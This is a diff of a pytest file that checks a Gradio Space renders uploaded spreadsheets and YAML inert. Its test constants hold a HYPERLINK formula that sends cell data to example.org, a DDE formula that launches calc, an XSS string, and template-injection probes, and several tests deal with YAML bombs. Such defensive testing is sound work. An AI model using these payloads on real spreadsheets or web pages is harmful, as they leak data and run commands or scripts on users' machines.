@@ -12,10 +12,11 @@ import pytest
 import yaml
 from served_space import Served, client_of, rows_of, served_space, temporary, upload, write_rows
 
-from normscope.spaces.normscope.context_form import EXAMPLE
+from normscope.spaces.normscope.context_review import EXAMPLE as FILE
 
 pytest.importorskip("gradio_client", reason="needs gradio_client: pip install 'normscope[space]'")
 
+EXAMPLE = yaml.safe_load(FILE.read_text(encoding="utf-8"))
 LINK = '=HYPERLINK("http://example.org/?"&A1,"look")'
 FORMULAS = [LINK, "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "  =1+1", "=cmd|' /C calc'!A0"]
 SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)> </style></pre>{{7*7}}${7*7}"
@@ -42,27 +43,6 @@ def test_formulas_come_back_inert_in_every_cell_and_header(client: Any, tmp_path
     assert [cell for cell in cells if runs(cell)] == []
     assert pq.read_table(judgements).num_rows == 3 * len(FORMULAS)
     assert "href" not in report.read_text().split("HYPERLINK", 1)[1][:40]
-
-
-def test_formulas_of_a_sheet_and_in_names_of_runs_come_back_inert(
-    client: Any, tmp_path: Path
-) -> None:
-    allowed = "label_moral: 0, 1 (? if it cannot be told)"
-    names = ["item", "question", "answer", "label_moral", "comment", "allowed", "sheet"]
-    rows = [[f"=i{n}", x, x, "", x, allowed, LINK] for n, x in enumerate(FORMULAS)]
-    sheet = write_rows(tmp_path / "rater.csv", [names, *rows])
-    filled = rows_of(client.predict(upload(sheet), {}, api_name="/fill_sheet"))
-    assert [cell for row in filled for cell in row.values() if runs(cell)] == []
-    given = [
-        [upload(write_rows(tmp_path / f"{at}.csv", [head, *([LINK, at, "", LINK] for _ in "ab")]))]
-        for at, head in enumerate([["question", "refusal", "refusal_reason", "category"]] * 2)
-    ]
-    _, files = client.predict(False, [LINK, LINK], *given, None, None, api_name="/compare_runs")
-    [table] = [path for path in files if path.endswith(".csv")]
-    compared = rows_of(table)
-    assert compared
-    shown = ("first", "second", "member", "benchmark")
-    assert [row[name] for row in compared for name in shown if runs(row[name])] == []
 
 
 def test_markup_in_a_file_is_text_in_its_report(client: Any, tmp_path: Path) -> None:
@@ -102,14 +82,10 @@ PRODUCT = {
     ],
     ids=["laughs", "merge", "own", "huge", "open", "deep", "braces", "tag", "null"],
 )
-@pytest.mark.parametrize(
-    "endpoint", ["/check_context", pytest.param("/context_yaml", marks=pytest.mark.slow)]
-)
-def test_a_yaml_bomb_is_refused_at_once(client: Any, text: str, told: str, endpoint: str) -> None:
-    given: list[Any] = [{}, text] if endpoint == "/context_yaml" else [text]
+def test_a_yaml_bomb_is_refused_at_once(client: Any, text: str, told: str) -> None:
     begun = time.monotonic()
     with pytest.raises(Exception, match=told):
-        client.predict(*given, api_name=endpoint)
+        client.predict(text, api_name="/check_context")
     assert time.monotonic() - begun < 10
 
 
@@ -150,25 +126,19 @@ def test_who_leaves_half_way_ends_the_job_and_frees_the_place(
         assert gone.stdout is not None
         assert gone.stdout.readline() == "begun\n"
         assert temporary(served)
-        with pytest.raises(Exception, match="1 of your requests"):
-            client.predict(upload(quick), *[""] * 5, api_name="/score_file")
         gone.kill()
     begun = time.monotonic()
-    found: dict[str, Any] = {}
-    while not found and time.monotonic() - begun < 60:
-        try:
-            found, _ = client.predict(upload(quick), *[""] * 5, api_name="/score_file")
-        except Exception as error:  # noqa: BLE001 - whatever gradio raises
-            assert "1 of your requests" in str(error)
-            time.sleep(0.5)
-    assert found["rows"] == 1
+    while temporary(served) and time.monotonic() - begun < 60:
+        time.sleep(0.5)
     assert temporary(served) == []
+    found, _ = client.predict(upload(quick), *[""] * 5, api_name="/score_file")
+    assert found["rows"] == 1
 
 
 @pytest.fixture
 def forgetful(tmp_path: Path) -> Iterator[Served]:
-    """A Space that keeps files of visitors for two seconds, and looks every second."""
-    with served_space(tmp_path, NORMSCOPE_TEST_KEEP="2") as space:
+    """A Space that keeps files of visitors for eight seconds, and looks every second."""
+    with served_space(tmp_path, NORMSCOPE_TEST_KEEP="8") as space:
         yield space
 
 
